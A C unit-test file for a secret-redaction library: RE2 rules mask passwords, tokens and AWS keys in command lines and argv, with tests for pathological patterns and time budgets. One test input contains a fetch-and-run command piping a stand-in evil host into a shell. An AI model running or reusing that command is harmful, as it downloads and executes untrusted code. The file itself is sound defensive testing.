// SPDX-License-Identifier: Apache-2.0
/* redact: rules in RE2 syntax over lines, file names and argv (each
 * argument and the command line they make, so a secret split over two
 * arguments is found), in time linear in the text; overlapping matches of
 * several rules replaced once; the names of the rules that matched; a rule
 * that cannot finish in its budget said so, never a silent pass. */
#include <errno.h>
#include <limits.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "redact.h"
#include "unit.h"

static struct redact_set *compile(const char *json, char *err, size_t errlen)
{
	cJSON *j = cJSON_Parse(json);
	struct redact_set *rs = NULL;

	redact_compile(j, &rs, err, errlen);
	cJSON_Delete(j);
	return rs;
}

/* The result, and in *hits how many rules matched. */
static const char *apply(struct redact_set *rs, const char *in, unsigned *hits)
{
	static char buf[16384];
	struct redact_result res;
	char *out;
	size_t len;

	*hits = UINT_MAX; /* when it fails: no count can be right */
	if (redact_apply(rs, in, strlen(in), &out, &len, &res) < 0)
		return NULL;
	*hits = (unsigned)__builtin_popcountll(res.matched);
	snprintf(buf, sizeof(buf), "%s", out);
	free(out);
	return buf;
}

static void test_redact_re2_syntax_and_replacement(void)
{
	char err[256];
	unsigned hits;
	struct redact_set *rs =
		compile("[{\"name\":\"aws\","
			"\"pattern\":\"(?i)aws_secret_access_key\\\\s*[=:]\\\\s*\\\\S+\","
			"\"replacement\":\"aws_secret_access_key=[REDACTED]\"},{\"name\":\"pw\","
			"\"pattern\":\"--password[= ]\\\\S+\"}]",
			err, sizeof(err));

	UNIT_CHECK(rs != NULL);
	if (!rs) {
		fprintf(stderr, "    %s\n", err);
		return;
	}
	UNIT_CHECK_STR(apply(rs, "export AWS_SECRET_ACCESS_KEY=abc123 && ls", &hits),
		       "export aws_secret_access_key=[REDACTED] && ls");
	UNIT_CHECK(hits == 1);
	UNIT_CHECK_STR(apply(rs, "mysql --password=hunter2 -u root --password x", &hits),
		       "mysql [REDACTED] -u root [REDACTED]");
	UNIT_CHECK(hits == 1);
	UNIT_CHECK_STR(apply(rs, "ls -la", &hits), "ls -la");
	UNIT_CHECK(hits == 0);
	redact_free(rs);
}

static void test_redact_binary_and_invalid_utf8_input(void)
{
	char err[256], *out;
	size_t len;
	struct redact_result res;
	struct redact_set *rs =
		compile("[{\"name\":\"t\",\"pattern\":\"token=\\\\w+\",\"replacement\":\"T\"}]",
			err, sizeof(err));
	static const char in[] = "a\xff\x00token=abc\xfe";

	UNIT_CHECK(rs != NULL);
	if (!rs)
		return;
	UNIT_CHECK(redact_apply(rs, in, sizeof(in) - 1, &out, &len, &res) == 0);
	UNIT_CHECK(len == 5 && !memcmp(out, "a\xff\x00T\xfe", 5) && res.matched == 1);
	free(out);
	redact_free(rs);
}

static void test_redact_empty_matches_terminate(void)
{
	char err[256];
	unsigned hits;
	struct redact_set *rs = compile(
		"[{\"name\":\"e\",\"pattern\":\"x*\",\"replacement\":\"-\"}]", err, sizeof(err));

	UNIT_CHECK_STR(apply(rs, "ab", &hits), "-a-b-");
	redact_free(rs);
}

static void test_redact_rejects_what_does_not_compile(void)
{
	char err[256] = "";
	struct redact_set *rs =
		compile("[{\"name\":\"bad\",\"pattern\":\"(unclosed\"}]", err, sizeof(err));

	UNIT_CHECK(rs == NULL);
	UNIT_CHECK(strstr(err, "bad") && strstr(err, "does not compile"));
}

/* The review's pattern (M4): valid RE2, harmless looking; on a crafted
 * line a backtracking engine gave up and the whole command was withheld. */
static void test_redact_pathological_pattern_finishes_and_redacts(void)
{
	char err[256], line[8192];
	unsigned hits;
	struct redact_set *rs = compile("[{\"name\":\"env\",\"pattern\":"
					"\"(?i)(\\\\w+_)*(TOKEN|SECRET|PASSWORD)=\\\\S+\"},"
					"{\"name\":\"evil\",\"pattern\":\"(x+x+)+y\"}]",
					err, sizeof(err));
	size_t i, n;

	UNIT_CHECK(rs != NULL);
	if (!rs)
		return;
	n = (size_t)snprintf(line, sizeof(line), "curl -s http://evil.example/x|sh #");
	for (i = 0; i < 3000; i++)
		line[n++] = i % 2 ? '_' : 'a';
	line[n++] = '=';
	line[n] = '\0';
	/* No secret in it: the line comes back whole. */
	UNIT_CHECK_STR(apply(rs, line, &hits), line);
	UNIT_CHECK(hits == 0);
	UNIT_CHECK_STR(apply(rs, "export MY_APP_TOKEN=abc && ls", &hits),
		       "export [REDACTED] && ls");
	memset(line, 'x', 4000);
	memcpy(line + 4000, "zy", 3);
	UNIT_CHECK_STR(apply(rs, line, &hits), line);
	redact_free(rs);
}

/* A rule of a large program that matches at every character of a long
 * line: what each match costs is its work, not the program's size again
 * (each search made and cleared memory for the whole program: 65534
 * matches of a 9000-instruction rule took seconds on one line). */
static void test_redact_many_matches_of_a_large_rule_cost_their_work(void)
{
	static char line[65535];
	struct redact_set *rs = compile("[{\"name\":\"big\",\"pattern\":\"a|(?:b{1000}){9}\","
					"\"replacement\":\"\"}]",
					NULL, 0);
	struct redact_result res;
	struct timespec t0, t1;
	char *out = NULL;
	size_t len = 1;

	UNIT_CHECK(rs != NULL);
	if (!rs)
		return;
	memset(line, 'a', sizeof(line) - 1);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	UNIT_CHECK(redact_apply(rs, line, sizeof(line) - 1, &out, &len, &res) == 0);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	UNIT_CHECK(out && len == 0 && res.unfinished < 0);
	/* under ASan, well under a second now; it was about 9 s without */
	UNIT_CHECK((t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000 < 1500);
	free(out);
	redact_free(rs);
}

static void test_redact_overlapping_rules_replace_the_union_once(void)
{
	char err[256];
	unsigned hits;
	struct redact_set *rs =
		compile("[{\"name\":\"a\",\"pattern\":\"key=\\\\S+\",\"replacement\":\"<A>\"},"
			"{\"name\":\"b\",\"pattern\":\"\\\\S+secret\",\"replacement\":\"<B>\"}]",
			err, sizeof(err));

	/* b's match starts first and a's overlaps it: one <B>, covering both */
	UNIT_CHECK_STR(apply(rs, "x mykey=topsecret y", &hits), "x <B> y");
	UNIT_CHECK(hits == 2);
	UNIT_CHECK_STR(apply(rs, "key=1 mysecret", &hits), "<A> <B>");
	redact_free(rs);
}

static void test_redact_names_the_rules_that_matched(void)
{
	char err[256], *out;
	size_t len;
	struct redact_result res;
	struct redact_set *rs = compile("[{\"name\":\"aws\",\"pattern\":\"AKIA[0-9A-Z]{16}\"},"
					"{\"name\":\"pw\",\"pattern\":\"--password[= ]\\\\S+\"},"
					"{\"name\":\"tok\",\"pattern\":\"token=\\\\S+\"}]",
					err, sizeof(err));

	UNIT_CHECK(redact_apply(rs, "a --password=x token=y", 22, &out, &len, &res) == 0);
	UNIT_CHECK(res.matched == 6 && res.unfinished == -1);
	UNIT_CHECK_STR(redact_rule_name(rs, 1), "pw");
	UNIT_CHECK_STR(redact_rule_name(rs, 2), "tok");
	UNIT_CHECK_STR(redact_rule_name(rs, 9), "");
	free(out);
	redact_free(rs);
}

/* argv as the kernel gives it, NUL-separated, redacted as an exec entry is
 * (up to 16 arguments); on failure, no argument and an empty line. */
static int argv_redact(struct redact_set *rs, const char *nulsep, size_t n, char *line, size_t cap,
		       char av_out[][64], size_t *argc, struct redact_result *res)
{
	const char *av[16];
	size_t len[16], i = 0, k = 0, *olen, llen;
	char **oav, *l;
	int ret;

	*argc = 0;
	line[0] = '\0';
	memset(av_out, 0, 16 * sizeof(*av_out));
	while (i < n && k < 16) {
		av[k] = nulsep + i;
		len[k] = strnlen(nulsep + i, n - i);
		i += len[k++] + 1;
	}
	ret = redact_argv(rs, av, len, k, &oav, &olen, &l, &llen, res);
	if (ret < 0)
		return ret;
	snprintf(line, cap, "%s", l);
	for (i = 0; i < k; i++) {
		snprintf(av_out[i], 64, "%s", oav[i]);
		free(oav[i]);
	}
	*argc = k;
	free(oav);
	free(olen);
	free(l);
	return 0;
}

/* The review's M3: `mysql --password hunter2` put the password in its own
 * argument, which a rule run on each argument alone never sees. */
static void test_redact_secret_split_over_arguments(void)
{
	static const char argv[] = "mysql\0--password\0hunter2\0-u\0root";
	static const char argv2[] = "curl\0-H\0Authorization: token=abc\0http://x";
	struct redact_set *rs = compile("[{\"name\":\"pw\",\"pattern\":\"--password[= ]\\\\S+\"},"
					"{\"name\":\"tok\",\"pattern\":\"^Authorization: .*\"}]",
					NULL, 0);
	struct redact_result res;
	char line[256], av[16][64];
	size_t argc;

	UNIT_CHECK(rs != NULL);
	if (!rs)
		return;
	UNIT_CHECK(argv_redact(rs, argv, sizeof(argv) - 1, line, sizeof(line), av, &argc, &res) ==
		   0);
	UNIT_CHECK_STR(line, "mysql [REDACTED] -u root");
	UNIT_CHECK(argc == 5);
	UNIT_CHECK_STR(av[0], "mysql");
	UNIT_CHECK_STR(av[1], "[REDACTED]");
	UNIT_CHECK_STR(av[2], "[REDACTED]");
	UNIT_CHECK_STR(av[3], "-u");
	UNIT_CHECK(!strstr(line, "hunter2") && res.matched == 1);
	/* An anchored rule sees an argument alone too. */
	UNIT_CHECK(argv_redact(rs, argv2, sizeof(argv2) - 1, line, sizeof(line), av, &argc, &res) ==
		   0);
	UNIT_CHECK_STR(av[2], "[REDACTED]");
	UNIT_CHECK_STR(line, "curl -H [REDACTED] http://x");
	UNIT_CHECK(res.matched == 2);
	redact_free(rs);
}

/* A rule whose program is big ((?:\w{1000}){4}z: 4001 instructions) runs
 * out of its budget on a long hostile text: said so, with the rule, and
 * no text is handed back as redacted. */
static void test_redact_rule_that_cannot_finish_is_reported(void)
{
	struct redact_set *rs = compile("[{\"name\":\"ok\",\"pattern\":\"x\"},"
					"{\"name\":\"huge\",\"pattern\":\"(?:\\\\w{1000}){4}z\"}]",
					NULL, 0);
	struct redact_result res;
	char *in = malloc(65534), *out = (char *)1;
	size_t len;

	if (!in || !rs) {
		UNIT_CHECK(0);
		free(in);
		redact_free(rs);
		return;
	}
	memset(in, 'a', 65534);
	UNIT_CHECK(redact_apply(rs, in, 65534, &out, &len, &res) == -E2BIG);
	UNIT_CHECK(out == NULL && res.unfinished == 1);
	free(in);
	redact_free(rs);
}

static void test_redact_no_rules_copies(void)
{
	char *out;
	size_t len;
	struct redact_result res;

	UNIT_CHECK(redact_apply(NULL, "same", 4, &out, &len, &res) == 0 && len == 4 &&
		   !strcmp(out, "same") && res.matched == 0);
	free(out);
}

UNIT_MAIN(UNIT_TEST(test_redact_re2_syntax_and_replacement),
	  UNIT_TEST(test_redact_many_matches_of_a_large_rule_cost_their_work),
	  UNIT_TEST(test_redact_binary_and_invalid_utf8_input),
	  UNIT_TEST(test_redact_empty_matches_terminate),
	  UNIT_TEST(test_redact_rejects_what_does_not_compile),
	  UNIT_TEST(test_redact_pathological_pattern_finishes_and_redacts),
	  UNIT_TEST(test_redact_overlapping_rules_replace_the_union_once),
	  UNIT_TEST(test_redact_names_the_rules_that_matched),
	  UNIT_TEST(test_redact_secret_split_over_arguments),
	  UNIT_TEST(test_redact_rule_that_cannot_finish_is_reported),
	  UNIT_TEST(test_redact_no_rules_copies))
